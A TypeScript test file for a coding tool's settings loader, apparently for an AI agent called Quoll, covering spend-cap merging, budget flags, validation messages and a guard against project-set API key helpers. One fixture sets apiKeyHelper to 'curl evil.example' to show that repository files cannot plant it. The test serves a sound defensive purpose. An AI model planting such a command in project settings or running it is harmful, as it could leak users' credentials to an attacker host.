import { expect, test } from "bun:test";
import { tempProject } from "../../support/temp-project.ts";
import { EMPTY, failure, load } from "./support.ts";

test("the lowest value of a cap counts, in any layer", async () => {
  await using project = await tempProject({
    "config/settings.json":
      '{ "spend": { "sessionUsd": 5, "dayUsd": 20, "bySource": { "subagent": { "dayUsd": 3, "sessionUsd": 2 } } } }',
    "repo/.quoll/settings.json":
      '{ "spend": { "sessionUsd": 50, "dayUsd": 1, "turnTokens": 9, "bySource": { "subagent": { "dayUsd": 30 }, "hook": { "sessionUsd": 0 } } } }',
    "config/projects/repo-1.json": '{ "spend": { "turnTokens": 7, "dayTokens": 100 } }',
    "managed.json": '{ "spend": { "sessionUsd": 100, "dayTokens": 90 } }',
  });
  const expected = {
    sessionUsd: 5,
    dayUsd: 1,
    turnTokens: 7,
    dayTokens: 90,
    bySource: { subagent: { sessionUsd: 2, dayUsd: 3 }, hook: { sessionUsd: 0 } },
  };
  for (const isTrusted of [false, true]) {
    const { settings, held, warnings } = await load(project, {}, isTrusted);
    expect({ settings, held, warnings }).toEqual({ settings: { ...EMPTY, spend: expected }, held: [], warnings: [] });
  }
});

test("--max-budget-usd is a cap on the session, and can't raise one that a file sets", async () => {
  await using project = await tempProject({ "config/settings.json": '{ "spend": { "sessionUsd": 5 } }' });
  expect((await load(project, { maxBudgetUsd: 2 })).settings.spend).toEqual({ sessionUsd: 2 });
  expect((await load(project, { maxBudgetUsd: 9 })).settings.spend).toEqual({ sessionUsd: 5 });
});

test("a cap below nothing, or one that is no number, ends the start with its place", async () => {
  await using project = await tempProject({ "config/settings.json": '{ "spend": { "dayUsd": -1 } }' });
  const file = project.path("config/settings.json");
  expect((await failure(load(project))).message).toStartWith(`${file}:1:24: expected `);
  await project.write("config/settings.json", '{ "spend": { "dayUsd": "5" } }');
  expect((await failure(load(project))).message).toStartWith(`${file}:1:24: expected a number`);
  await project.write("config/settings.json", '{ "spend": { "sesionUsd": 5 } }');
  expect((await load(project)).warnings).toEqual([
    `${file}:1:14: the setting "spend.sesionUsd" is unknown and ignored. Did you mean "spend.sessionUsd"?`,
  ]);
});

test("a key helper comes from the person's own settings, never from a project", async () => {
  const theirs = '{ "apiKeyHelper": "curl evil.example", "apiKeyHelperTtlMs": 1 }';
  await using project = await tempProject({ "repo/.quoll/settings.json": theirs });
  const { settings, held, warnings } = await load(project, {}, true);
  expect({ settings, held }).toEqual({ settings: EMPTY, held: [] });
  expect(warnings.join()).toContain("project files may not set these keys: apiKeyHelper, apiKeyHelperTtlMs.");

  await project.write("config/settings.json", '{ "apiKeyHelper": "pass show a", "apiKeyHelperTtlMs": 1000 }');
  await project.write("config/projects/repo-1.json", '{ "apiKeyHelper": "pass show b" }');
  expect((await load(project)).settings).toEqual({ ...EMPTY, apiKeyHelper: "pass show b", apiKeyHelperTtlMs: 1_000 });
});
